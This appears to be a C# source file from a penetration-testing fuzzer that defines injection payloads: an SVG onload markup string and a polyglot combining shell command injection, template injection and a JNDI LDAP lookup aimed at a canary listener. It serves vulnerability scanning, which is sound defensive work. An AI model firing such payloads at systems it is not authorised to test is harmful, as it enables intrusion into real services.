namespace Lighthouse.Security.Penetration.Fuzzing;

/// <summary>What several classes put into their payloads.</summary>
internal static class InjectionTexts
{
    public const string PolyglotName = "markup, template, command and lookup in one";
    public const string Markup = "<svg/onload=lighthouse>";
    public const string Delay = "0.6";
    public static readonly TimeSpan DelayTime = TimeSpan.FromSeconds(0.6);

    public static string Polyglot(Canaries canaries) =>
        $"a;echo lighthouse$(({canaries.Left}*{canaries.Right})) # '\">{Markup}{{{{{canaries.Left}*{canaries.Right}}}}}${{jndi:ldap://{canaries.Listener.Authority}/a}}";
}
